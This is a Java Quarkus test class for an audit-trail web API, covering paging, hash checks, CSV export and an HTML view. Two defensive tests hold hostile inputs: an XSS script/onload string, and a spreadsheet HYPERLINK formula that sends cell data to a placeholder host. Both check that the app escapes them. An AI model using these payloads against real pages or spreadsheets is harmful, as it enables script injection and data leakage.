package assay.review;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import assay.TestDatabase;
import assay.TestSite;
import assay.access.AuditLog;
import assay.access.AuditLog.Act;
import assay.access.Person;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.OptionalInt;
import java.util.Set;
import java.util.UUID;
import org.erdtman.jcs.JsonCanonicalizer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The audit trail as it is handed out, over HTTP. */
@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
@QuarkusTestResource(TestSite.class)
class AuditPageTest {
    private static final String HOSTILE = "<script>alert(1)</script>\"' onload=x {view.json} &amp;";

    @Inject
    AuditLog log;

    @Inject
    ObjectMapper json;

    private final String object = "assessment:" + UUID.randomUUID();

    private void record(Act act, String what, int version) {
        record(Person.LOCAL, act, what, version);
    }

    private void record(Person who, Act act, String what, int version) {
        QuarkusTransaction.requiringNew().run(() -> log.record(who, act, what, OptionalInt.of(version), "content"));
    }

    private void decideOften(int times) {
        QuarkusTransaction.requiringNew().run(() -> {
            for (int version = 1; version <= times; version++) {
                log.record(Person.LOCAL, Act.DECIDED, object, OptionalInt.of(version), "content");
            }
        });
    }

    private JsonNode api(String... parameters) throws Exception {
        var request = given();
        for (int i = 0; i < parameters.length; i += 2) {
            request.queryParam(parameters[i], parameters[i + 1]);
        }
        Response response = request.get("/api/v1/audit");
        assertThat(response.statusCode()).as(response.asString()).isEqualTo(200);
        return json.readTree(response.asString());
    }

    private static List<List<String>> csv(Response response) throws Exception {
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.contentType()).isEqualTo("text/csv;charset=UTF-8");
        try (MappingIterator<List<String>> rows = new CsvMapper()
                .readerForListOf(String.class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY)
                .readValues(response.asByteArray())) {
            return rows.readAll();
        }
    }

    @Test
    void handsOutEntriesNewestFirstPageByPage() throws Exception {
        decideOften(5);
        List<Integer> versions = new ArrayList<>();
        JsonNode page = api("object", object, "limit", "2");
        while (page.has("next")) {
            page.get("items").forEach(e -> versions.add(e.get("version").intValue()));
            page = api(
                    "object", object, "limit", "2", "cursor", page.get("next").textValue());
        }
        page.get("items").forEach(e -> versions.add(e.get("version").intValue()));
        assertThat(versions).containsExactly(5, 4, 3, 2, 1);
    }

    @Test
    void anybodyCanComputeAHashFromWhatIsHandedOut() throws Exception {
        record(Act.APPROVED, object, 7);
        ObjectNode entry = (ObjectNode) api("object", object).at("/items/0");
        assertThat(entry.get("actorName").textValue()).isEqualTo("local reviewer");
        String hash = entry.get("hash").textValue();
        byte[] canonical =
                new JsonCanonicalizer(entry.remove(Set.of("actorName", "hash")).toString()).getEncodedUTF8();
        assertThat(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(canonical)))
                .isEqualTo(hash);
    }

    @Test
    void somebodyUnknownHasNoName() throws Exception {
        record(new Person("4711", "gone since", Set.of()), Act.SIGNED_OUT, object, 1);
        JsonNode entry = api("actor", "4711", "object", object).at("/items/0");
        assertThat(entry.get("actor").textValue()).isEqualTo("4711");
        assertThat(entry.has("actorName")).isFalse();
        assertThat(given().queryParam("object", object).get("/audit").asString())
                .contains("4711")
                .doesNotContain("gone since");
    }

    @ParameterizedTest
    @CsvSource({
        "from, yesterday",
        "from, 2026-02-30",
        "to, +300000-01-01T00:00:00Z",
        "act, FORGOT",
        "cursor, x",
        "cursor, YXVkaXR8LTE",
        "limit, 0",
        "limit, 201",
        "limit, many",
        "format, xml",
    })
    void aParameterThatCannotBeReadIsNamed(String name, String value) {
        Response response = given().queryParam(name, value).get("/api/v1/audit");
        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(response.jsonPath().getString("pointer")).isEqualTo("/" + name);
        assertThat(response.jsonPath().getString("detail")).contains(name).endsWith(".");
    }

    @Test
    void aDayCountsAsAWhole() throws Exception {
        record(Act.NOTED, object, 1);
        String at = api("object", object).at("/items/0/at").textValue();
        String day = at.substring(0, 10);
        assertThat(api("object", object, "from", day, "to", day).get("items")).hasSize(1);
        assertThat(api("object", object, "from", at).get("items")).hasSize(1);
        assertThat(api("object", object, "to", at).get("items")).isEmpty();
        assertThat(api("object", object, "act", "noted").get("items")).hasSize(1);
        assertThat(api("object", object, "act", "DECIDED").get("items")).isEmpty();
    }

    @Test
    void aFileHasAllOfItOldestFirst() throws Exception {
        decideOften(1_203);
        List<List<String>> rows =
                csv(given().accept("text/csv").queryParam("object", object).get("/api/v1/audit"));
        assertThat(rows.get(0))
                .containsExactly(
                        "seq",
                        "at",
                        "actor",
                        "actorName",
                        "act",
                        "object",
                        "version",
                        "contentSha256",
                        "previousHash",
                        "hash");
        assertThat(rows).hasSize(1_204);
        assertThat(rows.get(1).subList(2, 7)).containsExactly("local", "local reviewer", "DECIDED", object, "1");
        assertThat(rows.get(1_203).get(6)).isEqualTo("1203");
        JsonNode newest = api("object", object, "limit", "1").at("/items/0");
        assertThat(rows.get(1_203).get(9)).isEqualTo(newest.get("hash").textValue());
    }

    @Test
    void aCellThatASpreadsheetWouldRunIsText() throws Exception {
        String formula = "=HYPERLINK(\"http://a.example/\"&A1,\"x\")";
        record(new Person("@" + object, "x", Set.of()), Act.NOTED, formula, 1);
        Response response = given().queryParam("actor", "@" + object)
                .queryParam("format", "csv")
                .get("/api/v1/audit");
        assertThat(response.header("Content-Disposition")).isEqualTo("attachment; filename=\"audit.csv\"");
        assertThat(csv(response).get(1)).contains("'" + formula, "'@" + object);
    }

    @Test
    void aFileOfNothingHasItsHeader() throws Exception {
        assertThat(csv(given().queryParam("actor", "nobody-" + object)
                        .queryParam("format", "csv")
                        .get("/api/v1/audit")))
                .hasSize(1);
    }

    @Test
    void thePageShowsWhoDidWhatAndHowToCheckIt() throws Exception {
        record(Act.STATEMENT_ATTACHED, object, 4);
        Document page = Jsoup.parse(given().accept("text/html")
                .queryParam("object", object)
                .get("/audit")
                .asString());
        JsonNode entry = api("object", object).at("/items/0");
        assertThat(page.select("tbody td").eachText())
                .containsExactly(
                        entry.get("seq").asText(),
                        entry.get("at").textValue().substring(0, 19).replace('T', ' '),
                        "local reviewer",
                        "statement attached",
                        object,
                        "4",
                        entry.get("hash").textValue().substring(0, 12));
        assertThat(page.selectFirst("tbody a.mono").attr("href")).isEqualTo("/assessments/" + object.substring(11));
        assertThat(page.text()).contains("verify-audit HASH");
        assertThat(page.selectFirst("nav [aria-current]").text()).isEqualTo("Audit");
        String download = page.selectFirst("a[download]").attr("href");
        assertThat(csv(given().urlEncodingEnabled(false).get(download))).hasSize(2);
    }

    @Test
    void theNextPageKeepsTheFilter() {
        decideOften(51);
        Document first = Jsoup.parse(given().queryParam("object", object)
                .queryParam("act", "DECIDED")
                .get("/audit")
                .asString());
        assertThat(first.select("tbody tr")).hasSize(50);
        Document second = Jsoup.parse(given().urlEncodingEnabled(false)
                .get(first.selectFirst("a[rel=next]").attr("href"))
                .asString());
        assertThat(second.select("tbody tr")).hasSize(1);
        assertThat(second.select("a[rel=next]")).isEmpty();
        assertThat(second.selectFirst("option[selected]").text()).isEqualTo("decided");
    }

    @Test
    void whatIsRecordedNeverBecomesMarkup() {
        record(new Person(HOSTILE, HOSTILE, Set.of()), Act.NOTED, HOSTILE, 1);
        String html = given().queryParam("object", HOSTILE).get("/audit").asString();
        Document page = Jsoup.parse(html);
        assertThat(html).doesNotContain("<script");
        assertThat(page.select("tbody td").eachText()).contains(HOSTILE);
        assertThat(page.selectFirst("input[name=object]").val()).isEqualTo(HOSTILE);
        assertThat(page.select("script, img, [onload]")).isEmpty();
    }

    @Test
    void aFilterOfThePageThatCannotBeReadIsToldOnAPage() {
        Response response =
                given().accept("text/html").queryParam("from", "soon").get("/audit");
        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(Jsoup.parse(response.asString()).selectFirst("[role=alert]").text())
                .startsWith("from must be a day");
    }

    @Test
    void whoMayLookAtItFindsItOnEveryPage() {
        for (String path : List.of("/", "/queue", "/scoring")) {
            assertThat(new String(given().get(path).asByteArray(), StandardCharsets.UTF_8))
                    .contains("<a href=\"/audit\">Audit</a>");
        }
    }
}
